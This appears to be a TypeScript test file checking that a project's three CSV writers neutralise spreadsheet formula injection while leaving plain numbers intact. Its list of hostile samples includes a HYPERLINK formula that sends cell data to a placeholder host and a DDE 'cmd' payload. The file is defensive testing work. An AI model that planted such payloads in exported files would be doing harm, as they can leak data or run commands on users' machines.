/**
 * CSV formula injection (issue 16): every CSV the project writes neutralises a text cell that a
 * spreadsheet would run as a formula, and leaves plain numbers alone. The three writers: the
 * published tables (DuckDB COPY), a chart's CSV (rowsToCsv) and the SQL console's export
 * (resultToCsv).
 */
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { openDuckDB, writeTable } from '../../scripts/lib/duckdb-writer.ts';
import { rowsToCsv } from '../../src/lib/chart-actions/files.ts';
import { startsLikeFormula } from '../../src/lib/csv-safety.ts';
import { resultToCsv } from '../../src/lib/sql/format.ts';

const HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A2,"Open")', '+cmd|"/c calc"!A1', '-2+3', '@SUM(A1:A2)', '\tTab', '\rCR'];
const SAFE = ['-5', '-1.5e3', '+7', 'Japan', 'a=b', ''];

const cellsOf = (csv: string) => Papa.parse<string[]>(csv.trim(), { skipEmptyLines: false }).data.slice(1).map((r) => r[0]);

describe('the formula rule', () => {
  it.each(HOSTILE)('%j looks like a formula', (t) => expect(startsLikeFormula(t)).toBe(true));
  it.each(SAFE)('%j does not', (t) => expect(startsLikeFormula(t)).toBe(false));
});

describe('every CSV writer neutralises formula-like text', () => {
  const expected = [...HOSTILE.map((t) => `'${t}`), ...SAFE];

  it('chart CSV (rowsToCsv)', () => {
    const rows = [...HOSTILE, ...SAFE].map((note) => ({ note, value: -5 }));
    const csv = rowsToCsv(rows, ['note', 'value']);
    expect(cellsOf(csv)).toEqual(expected);
    expect(csv).toContain(',-5\n');
  });

  it('SQL console export (resultToCsv)', () => {
    const csv = resultToCsv({ columns: ['note', 'n'], rows: [...HOSTILE, ...SAFE].map((t) => [t, '-5']), truncated: false });
    expect(cellsOf(csv)).toEqual(expected);
  });

  it('published tables (DuckDB COPY in scripts/lib/duckdb-writer.ts)', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'atlas-csv-safety-'));
    const db = await openDuckDB();
    try {
      const rows = [...HOSTILE, ...SAFE].map((t, i) => ({
        country_code: `C${String(i).padStart(2, '0')}`,
        name_en: t === '' ? 'x' : t,
        name_ja: null,
        name_ko: null,
        name_es: null,
        name_it: null,
        is_aggregate: false,
        eurostat_geo: null,
      }));
      await writeTable(db.conn, dir, 'countries', rows);
      const csv = await readFile(join(dir, 'countries.csv'), 'utf8');
      const names = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data.map((r) => r.name_en);
      expect(names).toEqual([...HOSTILE.map((t) => `'${t}`), ...SAFE.map((t) => (t === '' ? 'x' : t))]);
    } finally {
      db.close();
      await rm(dir, { recursive: true, force: true });
    }
  });
});
